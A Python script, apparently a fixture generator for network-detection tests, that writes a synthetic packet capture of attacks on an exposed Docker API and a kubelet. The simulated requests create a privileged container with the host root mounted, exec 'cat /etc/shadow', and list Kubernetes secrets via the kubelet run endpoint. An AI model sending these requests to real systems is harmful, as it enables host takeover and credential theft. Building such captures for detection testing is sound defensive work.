#!/usr/bin/env python3
import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[3] / "support"))
from packets import Capture, TcpTalk


def request(method, uri, body=b"", kind=b"application/json"):
    head = method + b" " + uri + b" HTTP/1.1\r\nHost: node\r\nUser-Agent: curl/8\r\n"
    if body:
        head += b"Content-Type: " + kind + b"\r\nContent-Length: %d\r\n" % len(body)
    return head + b"\r\n" + body


def answer(body):
    return b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body


capture = Capture()
talk = TcpTalk(capture, "10.1.0.10", 40001, "10.2.0.20", 2375)
talk.open()
talk.client(request(b"GET", b"/v1.43/containers/json?all=1"))
talk.server(answer(b"[]"))
talk.client(request(b"POST", b"/v1.43/containers/create?name=x", b'{"Image":"alpine:3","Cmd":["sh","-c","id"],"HostConfig":'
                    b'{"Privileged":true,"PidMode":"host","Binds":["/:/host"]}}'))
talk.server(answer(b'{"Id":"0123abcd"}'))
talk.client(request(b"POST", b"/v1.43/containers/0123abcd/exec", b'{"Cmd":["cat","/etc/shadow"]}'))
talk.server(answer(b'{"Id":"feed"}'))
talk.close()
talk = TcpTalk(capture, "10.1.0.10", 40002, "10.2.0.20", 10250)
talk.open()
talk.client(request(b"POST", b"/run/kube-system/proxy/main", b"cmd=ls+%2Fvar%2Frun%2Fsecrets", b"application/x-www-form-urlencoded"))
talk.server(answer(b"{}"))
talk.client(request(b"GET", b"/pods"))
talk.server(answer(b"{}"))
talk.client(request(b"GET", b"/index.html"))
talk.server(answer(b"{}"))
talk.close()
capture.write(sys.argv[1])
